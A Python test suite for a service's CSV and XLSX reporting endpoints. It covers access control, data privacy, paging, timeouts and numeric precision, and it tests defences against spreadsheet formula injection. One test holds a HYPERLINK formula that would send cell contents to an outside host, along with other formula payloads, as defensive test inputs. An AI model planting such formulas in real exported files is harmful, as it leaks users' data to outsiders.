"""Reports over HTTP: their contents, readers, and safety in spreadsheet programs."""

import asyncio
import csv
import io
import sys
import time
from datetime import timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import httpx
import pytest

from domain.events.team import TeamFormed
from domain.foundation import ChallengeId, PersonId, ProgrammeId, TeamId
from projections.derived.reports import PARTICIPATION, REPORTS
from projections.query import ViewQuery
from service.api.operations import reporting, spreadsheets
from service.clock_and_ids import new_id, now
from tests.conftest import Api
from tests.service.api.examples.everybody import Everybody, everybody
from tests.service.api.examples.programme import ballot, made, programme
from tests.service.api.examples.team import ATeam, Given, a_team, ok
from tests.service.api.examples.trips import booking, euros, fixed, pounds
from tests.service.api.operations.examples.spreadsheet import cells

pytestmark = pytest.mark.own_kring  # reports cover everything

Rows = list[dict[str, str]]

REPORT_TIMEOUT_S = 0.3  # for reports that are meant to be late; each row or page takes twice as long
TIMEOUT_S = 20.0  # a test that waits longer hangs


async def report(client: httpx.AsyncClient, name: str, **query: Any) -> Rows:
    answer = await client.get(f"/reporting/{name}.csv", params=query)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


async def at_head(api: Api) -> dict[str, int]:
    return {"at_least": await api.kring.log.head()}


async def all_of(api: Api) -> Everybody:
    """The complete setting, with a confirmed booking and a held gathering."""
    all_ = await everybody(api)
    team, ids = all_.team, all_.ids
    await ok(await team.members[0].post(f"/bookings/{ids['booking']}/confirmation", json={"reference": "AB-12"}), 200)
    began = now() - timedelta(hours=3)
    when = {"starts_at": began.isoformat(), "ends_at": (began + timedelta(hours=2)).isoformat(), "place": "Zwolle"}
    planned = await team.members[0].post(f"/teams/{team.id}/gatherings", json={**when, "kind": "own"})
    path = f"/gatherings/{made(planned)['id']}"
    await ok(await team.members[0].post(f"{path}/holding"), 200)
    people = [{"person_id": one, "present": one != team.people[0]} for one in team.people[:4]]
    await ok(await team.members[0].post(f"{path}/attendance", json={"people": people}), 200)
    await ok(await team.commissioner.post(f"/commitments/{ids['commitment']}/move", json=MOVED), 200)
    return all_


MOVED = {"due_on": "2027-04-01", "reason": "Later"}


async def test_every_report_shows_what_happened(api: Api) -> None:
    all_ = await all_of(api)
    team, ids, here = all_.team, all_.ids, {"programme": all_.team.programme}
    found = {one.name: await report(team.manager, one.name, **here, **await at_head(api)) for one in REPORTS}
    assert {name for name, rows in found.items() if not rows} == set()
    for one in REPORTS:
        assert list(found[one.name][0]) == [column.name for column in one.columns]
        assert {(row["programme"], row["edition"]) for row in found[one.name]} == {("Leergang", "2016")}
        keys = [tuple(row[name] for name in one.key) for row in found[one.name]]
        assert len(set(keys)) == len(keys)
    assert {row["person_id"] for row in found["participation"]} >= set(team.people)
    _as_it_was(found, ids, team)


def _as_it_was(found: dict[str, Rows], ids: dict[str, str], team: ATeam) -> None:
    turnout = _only(found["turnout"], ballot_id=ids["ballot"])
    assert (turnout["electors"], turnout["papers"], turnout["turnout_percent"]) == ("5", "5", "100.0")
    counted = _only(found["turnout"], ballot_id=ids["counted"])
    assert (counted["status"], counted["papers"], counted["challenges"]) == ("counted", "5", "2")
    (attendance,) = found["attendance"]
    assert (attendance["recorded"], attendance["present"], attendance["present_percent"]) == ("4", "3", "75.0")
    assert attendance["team_id"] == team.id
    phases = {row["phase"]: row for row in found["phases"] if row["team_id"] == team.id}
    assert list(phases) == ["formed", "active", "presenting", "following_up"]
    assert phases["presenting"]["ended_at"] == phases["following_up"]["began_at"]
    assert (phases["presenting"]["days"], phases["following_up"]["days"]) == ("0.0", "")
    ranks = {(row["team_id"], row["rank"]): row["members"] for row in found["preferences_met"]}
    assert ranks[team.id, ""] == "4"
    (trip,) = found["trip_costs"]
    assert (trip["currency"], trip["expenses_minor"]) == ("EUR", "1000")
    assert int(trip["cost_minor"]) == int(trip["bookings_minor"]) + 1000
    evidence = _only(found["evidence"], recommendation_id=ids["recommendation"])
    assert (evidence["status"], evidence["evidence"], evidence["sources"]) == ("in_progress", "1", "1")
    response = _only(found["response_times"], recommendation_id=ids["recommendation"])
    assert (response["verdict"], response["days"]) == ("accepted", "0.0")
    commitment = _only(found["commitments_kept"], commitment_id=ids["commitment"])
    assert (commitment["first_due_on"], commitment["due_on"], commitment["moves"]) == ("2027-03-01", "2027-04-01", "1")
    assert (commitment["status"], commitment["settled_at"]) == ("open", "")


def _only(rows: Rows, **said: str) -> dict[str, str]:
    (row,) = [one for one in rows if said.items() <= one.items()]
    return row


TOLD_OF = {"turnout", "phases", "evidence", "response_times", "commitments_kept"}
"""Reports for a commissioner without participants. Never attendance, rankings or costs of trips."""


async def test_organisations_and_managers_get_only_reports_of_what_they_may_read(api: Api) -> None:
    all_ = await all_of(api)
    bank, head = all_.known["reporting"], await at_head(api)
    found = {one.name: await report(bank, one.name, **head) for one in REPORTS}
    assert {name for name, rows in found.items() if rows} == TOLD_OF
    for rows in (found[name] for name in TOLD_OF - {"turnout"}):
        assert {row["organisation_id"] for row in rows} == {all_.team.bank}
    assert {row["consent_withdrawn"] for row in found["evidence"]} == {""}, "what a team's interviews become is its own"
    everything = {one.name: await report(all_.team.manager, one.name) for one in REPORTS}
    own = {one.name: await report(all_.known["manager"], one.name) for one in REPORTS}
    here = {one.name: await report(all_.team.manager, one.name, programme=all_.team.programme) for one in REPORTS}
    assert own == here
    assert {row["consent_withdrawn"] for row in own["evidence"]} == {"0"}
    assert len(everything["participation"]) > len(own["participation"])
    elsewhere = await report(all_.known["manager elsewhere"], "participation")
    assert [row["programme"] for row in elsewhere] == ["Andere"]
    assert await report(all_.known["manager elsewhere"], "turnout") == []


async def test_an_employer_sees_its_own_participants(api: Api) -> None:
    setting = await programme(api, participants=2, challenges=1)
    client = await api.as_("reporting", organisations=(setting.organisation,))
    rows = await report(client, "participation", **await at_head(api))
    assert {(row["person_id"], row["organisation"], row["status"]) for row in rows} == {
        (one, "Bank", "active") for one in setting.ids
    }
    person = await api.as_("reporting", setting.ids[0])
    assert await report(person, "participation") == []


async def test_reports_contain_no_personal_names_or_free_text(api: Api) -> None:
    all_ = await all_of(api)
    texts = [
        (await all_.team.manager.get(f"/reporting/{one.name}.csv", params=await at_head(api))).text for one in REPORTS
    ]
    said = "\n".join(texts)
    for word in (
        "Anna",
        "Guide",
        "example.org",
        "Start-ups",
        "Ze vertrekken",
        "Jansen",
        "kwartiermaker",
        "Lunch",
        "Later",
    ):
        assert word not in said


async def test_both_report_formats_have_the_same_content(api: Api) -> None:
    all_ = await all_of(api)
    head = await at_head(api)
    for one in REPORTS:
        plain = await all_.team.manager.get(f"/reporting/{one.name}.csv", params=head)
        sheet = await all_.team.manager.get(f"/reporting/{one.name}.xlsx", params=head)
        assert plain.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert plain.headers["Content-Disposition"] == f'attachment; filename="{one.name}.csv"'
        assert sheet.headers["Content-Type"] == spreadsheets.Xlsx.MEDIA_TYPE
        assert len(sheet.content) == int(sheet.headers["Content-Length"])
        shown = cells(sheet.content)
        rows = list(csv.reader(io.StringIO(plain.text, newline="")))
        assert plain.text.count("\r\n") == len(rows) == len(shown)
        texts = [n for n, column in enumerate(one.columns) if column.kind == "text" and column.name != "team_id"]
        assert shown[0] == rows[0]
        filled = [[row[n] for n in texts if row[n]] for row in rows[1:]]
        assert all(set(texts) <= set(cells_) for texts, cells_ in zip(filled, shown[1:], strict=True))


async def test_text_that_looks_like_a_formula_stays_text(api: Api) -> None:
    manager = await api.as_("manager")
    evil = '=HYPERLINK("http://example.org/?"&A1,"klik")'
    opened = made(await manager.post("/programmes", json={"name": evil, "edition": "-1+1"}))["id"]
    person = made(await manager.post("/people", json={"name": "Anna", "email": api.address("a")}))["id"]
    bank = made(await manager.post("/organisations", json={"name": "@SUM(A1)"}))["id"]
    body = {"person_id": person, "organisation_id": bank}
    made(await manager.post(f"/programmes/{opened}/participants", json=body))
    (row,) = await report(manager, "participation", **await at_head(api))
    assert (row["programme"], row["edition"], row["organisation"]) == (f"'{evil}", "'-1+1", "'@SUM(A1)")
    shown = cells((await manager.get("/reporting/participation.xlsx")).content)
    assert {evil, "-1+1", "@SUM(A1)"} <= set(shown[1])


@pytest.mark.parametrize("parts_at", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    ["=1+1", "＝1", "Bank;=1+1", 'Bank;"=1+1"', "Bank; -1", "Bank\t@SUM(A1)", "+31", "a;b=c", "Bank; Zwolle"],  # noqa: RUF001
)
def test_no_cell_starts_a_formula_whatever_the_separator(text: str, parts_at: str) -> None:
    file = io.BytesIO()
    sheet = spreadsheets.Csv(file, ["id", "name", "other"])
    sheet.write([["programme_1", text, "x"]])
    sheet.close()
    lines = file.getvalue().decode().splitlines()
    shown = next(csv.reader(lines[1:], delimiter=parts_at))
    assert not [one for one in shown if one.strip('" ').startswith(("=", "+", "-", "@", "＝"))]  # noqa: RUF001
    if parts_at == "," and text in {"a;b=c", "Bank; Zwolle"}:
        assert shown[1] == text


async def test_a_report_is_available_in_pages_and_complete(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    setting = await programme(api, participants=5, challenges=1)
    monkeypatch.setattr("service.store.views.reporting.PAGE_ROWS", 2)
    written: list[int] = []
    write = spreadsheets.Csv.write

    def counted(sheet: spreadsheets.Csv, rows: Any) -> None:
        written.append(len(rows))
        write(sheet, rows)

    monkeypatch.setattr(spreadsheets.Csv, "write", counted)
    rows = await report(setting.manager, "participation", **await at_head(api))
    assert sorted(row["person_id"] for row in rows) == sorted(setting.ids)
    assert written == [2, 2, 1]


@pytest.mark.parametrize("slow", ["select", "write"])
async def test_a_report_that_takes_too_long_is_aborted_with_an_error(
    api: Api, monkeypatch: pytest.MonkeyPatch, slow: str
) -> None:
    """Whether the database or the disk is slow, the caller gets an answer and the next report its turn."""
    setting = await programme(api, participants=3, challenges=1)
    head = await at_head(api)
    write = spreadsheets.Csv.write

    def slowly(sheet: spreadsheets.Csv, rows: Any) -> None:
        time.sleep(2 * REPORT_TIMEOUT_S)
        write(sheet, rows)

    with monkeypatch.context() as now_slow:
        now_slow.setattr("service.store.views.reporting.REPORT_TIMEOUT_S", REPORT_TIMEOUT_S)
        now_slow.setattr("service.store.views.reporting.PAGE_ROWS", 1)
        if slow == "write":
            now_slow.setattr(spreadsheets.Csv, "write", slowly)
        else:
            fast = PARTICIPATION.query
            query = ViewQuery(f"select *, pg_sleep(0.6) from ({fast.text}) q", *fast.views)
            now_slow.setitem(
                reporting.BY_FILE, "participation.csv", (PARTICIPATION._replace(query=query), spreadsheets.Csv)
            )
        answer = await setting.manager.get("/reporting/participation.csv", params=head)
    assert (answer.status_code, answer.json()["code"], answer.headers["Retry-After"]) == (503, "unavailable", "1")
    assert len(await report(setting.manager, "participation")) == 3


async def test_a_bounded_number_of_reports_wait_in_the_queue(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    setting, turn = await programme(api, participants=3, challenges=1), asyncio.Semaphore(0)
    head = await at_head(api)
    monkeypatch.setattr(api.kring.views, "report_slots", turn)
    requests = [
        asyncio.create_task(setting.manager.get("/reporting/turnout.csv", params=head))
        for _ in range(reporting.MAX_REPORTS + 1)
    ]
    (refused,), waiting = await asyncio.wait(requests, return_when=asyncio.FIRST_COMPLETED, timeout=TIMEOUT_S)
    assert (refused.result().status_code, refused.result().json()["code"]) == (503, "too-many-reports")
    turn.release()
    assert [one.status_code for one in await asyncio.gather(*waiting)] == [200] * reporting.MAX_REPORTS
    assert (await setting.manager.get("/reporting/turnout.csv")).status_code == 200


async def test_more_rows_than_a_worksheet_holds_are_refused_not_truncated(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    setting = await programme(api, participants=3, challenges=1)
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    answer = await setting.manager.get("/reporting/participation.xlsx", params=await at_head(api))
    assert (answer.status_code, answer.json()["code"]) == (409, "too-many-rows")
    assert len(await report(setting.manager, "participation")) == 3


async def test_the_report_of_an_open_ballot_shows_its_turnout(api: Api) -> None:
    setting = await programme(api)
    running = await ballot(setting)
    vote = {"approvals": [setting.challenges[0]]}
    made(await setting.people[0].put(f"/ballots/{running}/vote", json=vote), 200)
    (row,) = await report(setting.manager, "turnout", **await at_head(api))
    assert (row["status"], row["papers"], row["electors"], row["turnout_percent"]) == ("open", "1", "4", "25.0")
    assert row["closed_at"] == ""


async def test_phases_follow_each_other_whatever_the_outcome_of_ballots(api: Api) -> None:
    setting = await programme(api, participants=4, challenges=3)
    guide, person = setting.facilitator, PersonId(setting.ids[0])

    async def shown() -> list[tuple[str, bool]]:
        """Each phase of the programme and whether it is running; each begins where the previous one ended."""
        rows = [row for row in await report(setting.manager, "phases", **await at_head(api)) if not row["team_id"]]
        assert [row["ended_at"] for row in rows[:-1]] == [row["began_at"] for row in rows[1:]]
        return [(row["phase"], row["ended_at"] == "") for row in rows]

    first = await ballot(setting)
    assert await shown() == [("intake", False), ("ballot", True)]
    made(await guide.post(f"/ballots/{first}/close"), 200)
    made(await setting.manager.post(f"/ballots/{first}/voiding", json={"reason": "Fout"}), 200)
    assert await shown() == [("intake", False), ("ballot", False), ("assignment", True)]
    second = await ballot(setting)
    assert await shown() == [("intake", False), ("ballot", True)]
    made(await guide.post(f"/ballots/{second}/close"), 200)
    formed = TeamFormed(
        team=TeamId(new_id("team")),
        programme=ProgrammeId(setting.programme),
        challenge=ChallengeId(setting.challenges[0]),
        organisation=None,
        number=1,
        members=(person,),
    )
    await api.kring.commands.execute(lambda: Given(formed))
    whole = [("intake", False), ("ballot", False), ("assignment", False)]
    assert await shown() == whole
    made(await setting.manager.post(f"/ballots/{second}/voiding", json={"reason": "Fout"}), 200)
    late = await ballot(setting)
    assert await shown() == whole
    made(await guide.post(f"/ballots/{late}/close"), 200)
    assert await shown() == whole


async def test_a_paid_booking_counts_once_less_its_refund(api: Api) -> None:
    team = await a_team(api)
    path, member = await fixed(team), team.members[0]
    hotel = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": euros(30_000)}))["id"]
    train = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": euros(9_000)}))["id"]
    for one in (hotel, train):
        made(await member.post(f"/bookings/{one}/confirmation", json={"reference": "AB"}), 200)
        amount = euros(30_000) if one == hotel else euros(9_000)
        paid = {"payer": team.people[0], "amount": amount, "text": "Betaald", "booking_id": one}
        made(await member.post(f"{path}/expenses", json=paid))
    made(await member.post(f"/bookings/{train}/cancellation", json={"reason": "Staking", "refund": euros(8_000)}), 200)
    (row,) = await report(team.manager, "trip_costs", **await at_head(api))
    figures = {name: int(row[name]) for name in ("bookings_minor", "expenses_minor", "refunds_minor", "cost_minor")}
    assert figures == {"bookings_minor": 30_000, "expenses_minor": 39_000, "refunds_minor": 8_000, "cost_minor": 31_000}


async def test_a_refund_lowers_the_cost_by_at_most_what_was_paid_and_charged(api: Api) -> None:
    team = await a_team(api)
    path, member = await fixed(team), team.members[0]
    ferry, bus = [
        made(await member.post(f"{path}/bookings", json={**booking(team), "amount": pounds(10_000)}))["id"]
        for _ in range(2)
    ]
    for one in (ferry, bus):
        made(await member.post(f"/bookings/{one}/confirmation", json={"reference": "AB"}), 200)
    for part, charged in ((4_000, 5_000), (6_000, 7_000)):
        paid = {"payer": team.people[0], "amount": pounds(part), "settled_as": euros(charged), "text": "Veerboot"}
        made(await member.post(f"{path}/expenses", json={**paid, "booking_id": ferry}))
    for one in (ferry, bus):  # an organisation paid for the bus, which does not appear here
        body = {"reason": "Staking", "refund": pounds(8_000)}
        made(await member.post(f"/bookings/{one}/cancellation", json=body), 200)
    rows = await report(team.manager, "trip_costs", **await at_head(api))
    costs = {row["currency"]: (int(row["expenses_minor"]), int(row["cost_minor"])) for row in rows}
    assert costs == {"EUR": (12_000, 2_500), "GBP": (0, 0)}
    assert [row["refunds_minor"] for row in rows] == ["0", "16000"]


async def test_the_largest_amounts_are_exact_end_to_end(api: Api) -> None:
    team = await a_team(api)
    path, member = await fixed(team), team.members[0]
    largest = {"amount_minor": 10**15, "currency": "IDR"}
    ferry = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": largest}))["id"]
    made(await member.post(f"/bookings/{ferry}/confirmation", json={"reference": "AB"}), 200)
    paid = {
        "payer": team.people[0],
        "amount": largest,
        "settled_as": {**largest, "currency": "VND"},
        "text": "Veerboot",
    }
    made(await member.post(f"{path}/expenses", json={**paid, "booking_id": ferry}))
    refund = {**largest, "amount_minor": 333_333_333_333_333}
    made(await member.post(f"/bookings/{ferry}/cancellation", json={"reason": "Staking", "refund": refund}), 200)
    left = 10**15 - 333_333_333_333_333
    settled = made(await member.get(f"{path}/settlement", params=await at_head(api)), 200)["settlements"]
    assert [one["currency"] for one in settled] == ["VND"]
    assert sum(one["amount_minor"] for one in settled[0]["balances"]) == 0
    assert abs(max(one["amount_minor"] for one in settled[0]["balances"]) - left * 2 // 3) < left
    rows = await report(team.manager, "trip_costs", **await at_head(api))
    figures = {one["currency"]: (one["expenses_minor"], one["refunds_minor"], one["cost_minor"]) for one in rows}
    assert figures["VND"] == (str(10**15), "0", str(left))
    assert figures["IDR"][1] == "333333333333333"
    shown = cells((await team.manager.get("/reporting/trip_costs.xlsx", params=await at_head(api))).content)
    (vnd,) = [row for row in shown if "VND" in row]
    assert {str(10**15), str(left)} <= set(vnd)


@pytest.mark.parametrize("number", [10**15 - 1, 10**15, 2**53 + 1, -(2**53) - 1, 10**18 + 1])
def test_integers_are_written_with_all_their_digits(number: int) -> None:
    file = io.BytesIO()
    sheet = spreadsheets.Xlsx(file, ["number"])
    sheet.write([[number]])
    sheet.close()
    assert cells(file.getvalue())[1] == [str(number)]


@pytest.mark.parametrize("file", ["ballots.csv", "turnout", "turnout.pdf", "turnout.csv.csv", "Turnout.csv"])
async def test_an_unknown_report_is_not_found_or_listed(api: Api, file: str) -> None:
    answer = await (await api.as_("manager")).get(f"/reporting/{file}")
    assert answer.status_code == 404
    assert not any(one.name in answer.text for one in REPORTS if one.name not in file)


async def test_reports_of_programmes_of_other_managers_are_not_found(api: Api) -> None:
    setting = await programme(api, participants=1, challenges=0)
    stranger = await api.as_("reporting", organisations=(await _organisation(setting.manager),))
    for one in (stranger, setting.manager):
        named = setting.programme if one is stranger else "programme_01m84zzzzzzzzzzzzzzzzzzzzz"
        assert (await one.get("/reporting/turnout.csv", params={"programme": named})).status_code == 404
    assert (await setting.manager.get("/reporting/turnout.csv", params={"programme": "x"})).status_code == 422
    as_of = await setting.manager.get("/reporting/turnout.csv", params={"as_of": 3})
    assert (as_of.status_code, as_of.json()["code"]) == (400, "as-of-not-offered")


async def _organisation(manager: httpx.AsyncClient) -> str:
    return made(await manager.post("/organisations", json={"name": "Isala"}))["id"]


def test_every_report_is_available_in_both_formats() -> None:
    assert sorted(reporting.BY_FILE) == sorted(f"{one.name}.{end}" for one in REPORTS for end in ("csv", "xlsx"))


CHARTS = Path(__file__).parents[4] / "docs" / "how-to" / "charts.py"
SVG = "{http://www.w3.org/2000/svg}"


async def test_the_example_draws_three_charts(api: Api, tmp_path: Path) -> None:
    all_ = await all_of(api)
    token = await api.token("manager")
    await report(all_.team.manager, "turnout", **await at_head(api))
    script = await asyncio.create_subprocess_exec(
        sys.executable, CHARTS, api.url, tmp_path, stdin=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    _, wrong = await asyncio.wait_for(script.communicate(token.encode()), 60)
    assert (script.returncode, wrong.decode()) == (0, "")
    drawn = {name: ET.parse(tmp_path / f"{name}.svg").getroot() for name in ("turnout", "phases", "commitments")}
    bars = {name: len(svg.findall(f"{SVG}rect")) for name, svg in drawn.items()}
    assert bars == {"turnout": 2, "phases": 4, "commitments": 1}
